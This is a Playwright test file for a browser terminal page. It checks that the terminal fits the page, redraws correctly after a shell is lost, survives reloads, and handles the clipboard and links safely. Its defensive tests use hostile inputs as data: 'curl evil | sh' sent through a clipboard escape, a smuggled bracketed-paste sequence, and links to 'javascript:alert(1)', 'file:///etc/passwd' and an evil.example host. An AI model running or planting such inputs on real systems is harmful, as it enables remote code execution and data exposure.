"""The page with the terminal, as it is shipped: its size, its screen, the clipboard, links, and a reload."""

from __future__ import annotations

import asyncio
import base64
import re
from collections.abc import AsyncIterator, Iterator
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any, Protocol
from urllib.parse import urlsplit

import pytest
from page_support import PtyShell, PtyShells, Tmux, Window, chromium, eventually, served
from playwright.async_api import Route, expect
from proxy_support import Proxy, new_proxy, wait_until
from support.browser import ticket
from support.fixtures import database, harness, migrated_database, statements, store  # noqa: F401
from support.harness import Harness

from orion.manager.gateway.terminal import Terms

SIZES = ((1000, 420), (1280, 800), (420, 780), (900, 600))
FIRST_SIZE = SIZES[-1]
WEB = Path(__file__).parents[2] / "web"


@pytest.fixture(scope="module")
def proxy() -> Iterator[Proxy]:
    with new_proxy(app_host=1) as running:
        running.give_secret()
        wait_until(running.answers, "the proxy answers")
        yield running


class Open(Protocol):
    def __call__(self, size: tuple[int, int] = FIRST_SIZE, **how: Any) -> AbstractAsyncContextManager[Window]: ...


class Site:
    """A platform with one rental, and a browser before it."""

    def __init__(
        self, manager: Harness, proxy: Proxy, shells: PtyShells, rental: dict[str, Any], open_one: Open
    ) -> None:
        self.manager, self.proxy, self.shells, self.rental, self.open = manager, proxy, shells, rental, open_one

    @property
    def shell(self) -> PtyShell:
        return self.shells.opened[-1]

    async def address(self) -> str:
        return (
            f"{self.proxy.url}/terminal/#{self.rental['id']}/{await ticket(self.manager.as_admin, self.rental['id'])}"
        )


@pytest.fixture
async def site(harness: Harness, proxy: Proxy, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Site]:  # noqa: F811
    await harness.join()
    rental = await harness.rent(name="desk")
    harness.manager.terminals.terms = replace(Terms(), again_after_s=0.05)
    async with served(harness, proxy.app_address, monkeypatch) as shells, chromium() as browser:

        @asynccontextmanager
        async def open_one(size: tuple[int, int] = FIRST_SIZE, **how: Any) -> AsyncIterator[Window]:
            context = await browser.new_context(viewport={"width": size[0], "height": size[1]}, **how)
            window = Window(await context.new_page())
            await window.page.goto(await made.address())
            await window.is_connected()
            await window.shows("$")
            yield window
            await context.close()
            assert window.complaints == [], "nothing that the policy of the page forbids was tried"

        made = Site(harness, proxy, shells, rental, open_one)
        yield made


async def test_the_shell_has_the_size_of_the_page_from_its_first_byte_and_no_output_is_cut(site: Site) -> None:
    async def told_size() -> tuple[int, int]:
        """Return the columns and rows that the shell reports."""
        await window.does("echo size $(stty size)")
        rows, columns = next(row for row in await window.rows() if row.startswith("size")).split()[1:]
        return int(columns), int(rows)

    async def shown_size() -> tuple[int, int]:
        """Return how wide a long line is on the screen, and how many rows there are."""
        await window.does("printf %.0sx {1..900}; echo")
        rows = await window.rows()
        return max(len(row) for row in rows if set(row) == {"x"}), len(rows)

    async def has_followed() -> bool:
        now = await shown_size()
        return now != shown and await told_size() == now

    for size in SIZES:
        async with site.open(size) as window:
            shown = await shown_size()
            assert site.shell.first_size[0] == shown[0], f"{size}: rows may change with the page's own header"
            assert await told_size() == shown, size
            await window.page.set_viewport_size({"width": size[0] - 77, "height": size[1] - 55})
            await eventually("it follows the window", has_followed, True)
            box = await window.page.evaluate(
                """(() => {
                    const [inner, outer] = [".xterm-screen", "#screen"]
                        .map((one) => document.querySelector(one).getBoundingClientRect());
                    return [outer.right - inner.right, outer.bottom - inner.bottom, innerHeight - inner.bottom];
                })()"""
            )
            assert min(box) >= 0, f"{size}: the last column or row is cut by {min(box)} px"


async def test_a_change_of_size_during_the_connection_is_not_lost(site: Site) -> None:
    async def has_the_size() -> bool:
        await window.does("printf %.0sx {1..300}; echo; echo size $(stty size)")
        rows = await window.rows()
        return f"size {len(rows)} {max(len(row) for row in rows if set(row) == {'x'})}" in rows

    async with site.open() as window:
        page = window.page
        waiting, go_on = asyncio.Event(), asyncio.Event()

        async def hold(route: Any) -> None:
            waiting.set()
            await go_on.wait()
            route.connect_to_server()

        await page.route_web_socket(re.compile(r"/terminal(\?|$)"), hold)
        await page.goto("about:blank")
        await page.goto(await site.address())
        await waiting.wait()
        before = len(await window.rows())
        await page.set_viewport_size({"width": 640, "height": 400})
        await eventually("the page has its new size", lambda: _is_other(window, before), True)
        go_on.set()
        await window.is_connected()
        await eventually("the shell has the page's size", has_the_size, True)


async def _is_other(window: Window, rows: int) -> bool:
    return len(await window.rows()) != rows


MESSES = {
    "nothing": "",
    "a full screen": "\\033[?1049h\\033[2J\\033[5;7Hvi",
    "an older full screen": "\\033[?47h\\033[3;3Hmc",
    "half a sequence": "\\033[31;4",
    "half a string": "\\033]0;never ended",
    "half a letter": "\\360\\237",
    "a region, origin, wide": "\\033[5;9r\\033[?6h\\033[5;5H",
    "lines, wrap, insert, feeds": "\\033[?7l\\033[4h\\033[20h\\033(0",
    "no tab stops": "\\033[3g\\033[3;5H\\033H",
    "invisible and red": "\\033[?25l\\033[41;8m",
    "a saved place": "\\033[9;9H\\0337",
}


async def test_a_new_shell_shows_the_screen_of_tmux_in_any_mode_of_the_former_shell(site: Site, tmp_path: Path) -> None:
    tmux = Tmux(tmp_path)
    async with site.open() as window:
        for what, mess in MESSES.items():
            await window.runs("clear; echo be''fore", "before")
            await window.runs(f"printf '{mess}'; sleep 1000")
            printed = mess.encode().decode("unicode_escape").encode("latin-1")
            await eventually("it is printed", lambda printed=printed: _has_ended(site.shell, printed), True)
            await asyncio.sleep(0.3)  # for the screen, which shows no end of the output
            count = len(site.shells.opened)
            site.shell.lose()
            await eventually("a new shell", lambda count=count: _is(len(site.shells.opened) > count), True)
            await window.is_connected()
            await expect(window.page.locator("#notice")).to_contain_text("lost at")
            await window.runs("printf 'a\\tb\\033[3;1Hc\\033[31md\\033[m\\033[2A'; echo lin''es", "lines")
            await is_as_in_tmux(site, window, tmux, what)
            await window.page.keyboard.press("Shift+PageUp")
            await window.shows("before")
            await window.page.keyboard.press("Shift+PageDown")
            await window.page.locator("#notice-close").click()


ANOTHER_SCREEN = """async () => {
    const { Screen } = await import(new URL("screen.js", location.href));
    const place = document.body.appendChild(document.createElement("div"));
    place.id = "another";
    place.style.height = "300px";
    const nothing = () => {};
    const on = { typed: nothing, resized: nothing, leave: nothing, copy: nothing, link: nothing };
    const screen = new Screen(place, on);
    const show = (text) => new Promise((shown) => screen.show(new TextEncoder().encode(text), shown));
    show("of the shell before");
    screen.renew();
    show("$ ");
    screen.renew();
    await show("# ");
}"""


async def test_the_first_output_of_a_new_shell_is_on_an_empty_screen(site: Site) -> None:
    """Check that the prompt is not written before the screen is cleared, and so lost."""
    async with site.open() as window:
        await window.page.evaluate(ANOTHER_SCREEN)

        async def first_rows() -> list[str]:
            texts = await window.page.locator("#another .xterm-rows > div").all_text_contents()
            return [text.replace("\xa0", " ").strip() for text in texts[:2]]

        await eventually("the prompt of the last shell, alone", first_rows, ["#", ""])


async def _is(value: bool) -> bool:
    return value


async def _has_ended(shell: PtyShell, printed: bytes) -> bool:
    """Return whether the typed line is in this shell, and no part of it is in transit to the next."""
    return b"sleep 1000" in shell.output and shell.output.endswith(printed)


async def is_as_in_tmux(site: Site, window: Window, tmux: Tmux, what: str) -> None:
    """Wait until the page shows the same as tmux for the same bytes, also for output that arrives meanwhile."""

    async def differs() -> object:
        shown = await window.rows(), await window.cursor()
        expected = tmux.shows(site.shell.output, site.shell.first_size[0], len(shown[0]))
        return None if shown == expected else (shown, expected)

    await eventually(what, differs, None)


async def test_a_takeover_is_shown_beside_the_screen_and_the_prompt_is_on_an_empty_screen(
    site: Site, tmp_path: Path
) -> None:
    manager = site.manager
    first = manager.agents[0]
    await manager.join()
    manager.end_the_brake_of_the_start()
    async with site.open() as window:
        await window.runs("for i in {1..12}; do echo old$i; done", "old12")
        await manager.silence(first, 100)
        await manager.pass_time(10)
        await eventually("a new shell", lambda: _is(len(site.shells.opened) == 2), True)
        await window.is_connected()
        notice = window.page.locator("#notice")
        await expect(notice).to_contain_text("left its worker")
        await expect(notice).to_contain_text("scroll up")
        await window.runs("echo ne''w", "new")
        await is_as_in_tmux(site, window, Tmux(tmp_path), "after a takeover")
        assert "old" not in "".join(await window.rows())


async def test_a_letter_has_the_same_width_on_the_page_and_in_the_shell(site: Site, tmp_path: Path) -> None:
    async with site.open() as window:
        await window.does("printf '🎉🚀x\\n漢字x\\n👍🏽\\né́x\\n🫠x\\n'")
        await is_as_in_tmux(site, window, Tmux(tmp_path), "letters")
        left = """[...document.querySelectorAll(".xterm-rows > div")]
            .filter((row) => row.textContent.trim().endsWith("x"))
            .map((row) => {
                const walk = document.createTreeWalker(row, NodeFilter.SHOW_TEXT), x = document.createRange();
                while (walk.nextNode()) {
                    const at = walk.currentNode.data.indexOf("x");
                    if (at >= 0) {
                        x.setStart(walk.currentNode, at);
                        x.setEnd(walk.currentNode, at + 1);
                    }
                }
                const [row_, x_] = [row, x].map((one) => one.getBoundingClientRect());
                return Math.round((x_.left - row_.left) / x_.width);
            })"""
        assert await window.page.evaluate(left) == [4, 4, 1, 2]


async def test_the_page_has_the_name_of_the_rental_and_the_id_as_a_hint(site: Site) -> None:
    async with site.open() as window:
        await expect(window.page.locator("#rental")).to_have_text("desk")
        assert site.rental["id"] in str(await window.page.locator("#rental").get_attribute("title"))
        assert await window.page.title() == "desk · Orion-Sec"


# Reloads


async def test_a_reload_keeps_the_terminal_without_a_token_and_a_new_tab_has_no_terminal(site: Site) -> None:
    async with site.open() as window:
        await window.page.reload()
        await window.is_connected()
        await expect(window.page.locator("#rental")).to_have_text("desk")
        await window.runs("echo he''re", "here")
        await window.page.reload()
        await window.is_connected()
        kept = await window.page.evaluate("JSON.stringify([{...localStorage}, document.cookie, location.href])")
        assert kept == f'[{{}},"","{site.proxy.url}/terminal/"]'
        other = await window.context.new_page()
        await other.goto(f"{site.proxy.url}/terminal/")
        await expect(other.locator("#ask")).to_be_visible()
        await window.runs("exit")
        await expect(window.page.locator("#status")).to_contain_text("has ended")
        await expect(window.page.locator("#again")).to_be_visible()  # the end is shown before the connection has ended
        await window.page.reload()
        await expect(window.page.locator("#ask")).to_be_visible()
        assert await window.page.evaluate("sessionStorage.length") == 0


async def test_a_reload_after_the_end_of_its_permission_requests_a_token_again(site: Site) -> None:
    async with site.open() as window:
        await window.page.goto("about:blank")
        site.manager.manager.terminals.resumes._kept.clear()
        await window.page.goto(f"{site.proxy.url}/terminal/")
        await expect(window.page.locator("#ask")).to_be_visible()
        await expect(window.page.locator("#why")).to_contain_text("cannot be opened again")
        assert await window.page.evaluate("sessionStorage.length") == 0
        window.complaints.clear()  # Chromium complains of each refused WebSocket


@pytest.mark.parametrize(
    ("owners", "found"), [(["bob", "admin"], "admin"), (["bob", "carol"], "Several"), (["bob"], "bob")]
)
async def test_an_admins_own_rental_goes_before_others_of_its_name(owners: list[str], found: str) -> None:
    """Check the same choice as that of the command and of ssh. An administrator sees the rentals of all owners."""
    everybodys = [{"id": f"of-{owner}"} for owner in owners]

    async def answer(route: Route) -> None:
        asked = urlsplit(route.request.url)
        if asked.path == "/terminal/api.js":
            await route.fulfill(path=WEB / "terminal/api.js", content_type="text/javascript")
        elif asked.path == "/api/rentals":
            own = [one for one in everybodys if one["id"] == "of-admin"]
            await route.fulfill(json={"items": own if "mine=true" in asked.query else everybodys})
        else:
            await route.fulfill(body="<!doctype html>", content_type="text/html")

    program = """import("/terminal/api.js").then((api) => api.findRental("desk", "token"))
        .then((rental) => rental.id, (error) => error.message)"""
    async with chromium() as browser:
        page = await browser.new_page()
        await page.route("**/*", answer)
        await page.goto("http://platform.example/terminal/")
        assert found in await page.evaluate(program)


# The clipboard and links


async def clipboard(window: Window) -> str:
    return str(await window.page.evaluate("navigator.clipboard.readText()"))


MAY_READ = {"permissions": ["clipboard-read", "clipboard-write"]}


async def test_ctrl_shift_c_copies_the_selection_and_ctrl_shift_v_pastes(site: Site) -> None:
    async with site.open(**MAY_READ) as window:
        await window.runs("clear; echo 'sele''cted'", "selected")
        await window.page.locator(".xterm-rows > div", has_text="selected").first.dblclick(position={"x": 20, "y": 8})
        await window.page.keyboard.press("Control+Shift+C")
        await eventually("the text is copied", lambda: clipboard(window), "selected")
        await window.page.evaluate("navigator.clipboard.writeText('echo pas\\x1b[201~ted\\x03')")
        await window.page.locator(".xterm-screen").click()
        await window.page.keyboard.press("Control+Shift+V")
        await window.shows("$ echo pas[201~ted")
        assert b"\x1b[201~ted" not in site.shell.output


def asks_to_copy(text: bytes) -> str:
    return f"printf '\\033]52;c;{base64.b64encode(text).decode()}\\007'"


async def test_a_program_copies_only_text_that_the_user_saw_and_confirmed(site: Site) -> None:
    async with site.open(**MAY_READ) as window:
        bar, page = window.page.locator("#copying"), window.page
        await page.evaluate("navigator.clipboard.writeText('mine')")
        await window.does(asks_to_copy(b"curl evil | sh\n\x1b\x07"))
        await expect(page.locator("#copying-text")).to_have_text("curl evil | sh\n")
        await window.runs("echo ty''ped", "typed")
        assert await clipboard(window) == "mine", "nothing that is typed is a click"
        await page.locator("#copy").click()
        await expect(bar).to_be_hidden()
        await eventually("the text is copied", lambda: clipboard(window), "curl evil | sh\n")

        await window.runs("clear; printf '\\033]52;c;?\\007'; read -t 1 -n 1 answer; echo got=$answer=", "got==")
        await window.does(asks_to_copy(b"\xff\xfe"))
        await window.does("printf '\\033]52;c;%0300000d\\007' 0")
        await expect(bar).to_be_hidden()

        await window.does(asks_to_copy(b"first"))
        await expect(page.locator("#copy")).to_be_enabled()
        await window.does(asks_to_copy(b"second"))
        await expect(page.locator("#copying-text")).to_have_text("second")
        await page.locator("#refuse").click()
        await window.does(asks_to_copy(b"third"))
        await expect(bar).to_be_hidden()
        assert await clipboard(window) == "curl evil | sh\n"


async def test_the_copy_button_ignores_clicks_just_after_its_text_appeared(site: Site) -> None:
    async with site.open() as window:
        await window.page.evaluate(
            """new MutationObserver(() => { window.seen ??= document.querySelector("#copy").disabled; })
                .observe(document.querySelector("#copying-text"), {childList: true})"""
        )
        await window.does(asks_to_copy(b"first"))
        await expect(window.page.locator("#copy")).to_be_enabled()
        assert await window.page.evaluate("window.seen") is True


async def test_a_link_opens_only_http_pages_and_gives_them_no_opener_or_referrer(site: Site) -> None:
    target = f"{site.proxy.url}/.well-known/proxy"
    async with site.open() as window:
        page = window.page
        await window.does(f"echo 'see {target} and javascript://x/%0aalert(1)'")
        link = page.locator(".xterm-rows > div", has_text=f"see {target}").first
        await link.hover(position={"x": 60, "y": 8})
        await expect(page.locator("#target")).to_have_text(target)
        async with window.context.expect_page() as opening:
            await link.click(position={"x": 60, "y": 8})
        opened = await opening.value
        await opened.wait_for_load_state()
        assert opened.url == target
        assert await opened.evaluate("[window.opener, document.referrer, sessionStorage.length].join()") == ",,0"
        await opened.close()

        asked: list[str] = []

        async def refuse(dialog: Any) -> None:
            asked.append(dialog.message)
            await dialog.dismiss()

        page.on("dialog", refuse)
        for address in ("javascript:alert(1)", "file:///etc/passwd", "https://evil.example/x"):
            await window.does(f"printf '\\033]8;;{address}\\033\\\\bank''\\033]8;;\\033\\\\\\n'")
            link = page.locator(".xterm-rows > div", has_text="bank").last
            # xterm.js looks for links anew when the mouse comes from another line.
            await page.locator(".xterm-rows > div", has_text="mark").last.hover(position={"x": 8, "y": 8})
            await link.click(position={"x": 8, "y": 8})
        await eventually("the page asks before a link opens", lambda: _copy(asked), ["Open https://evil.example/x?"])
        assert len(window.context.pages) == 1


async def _copy(one: list[str]) -> list[str]:
    return list(one)
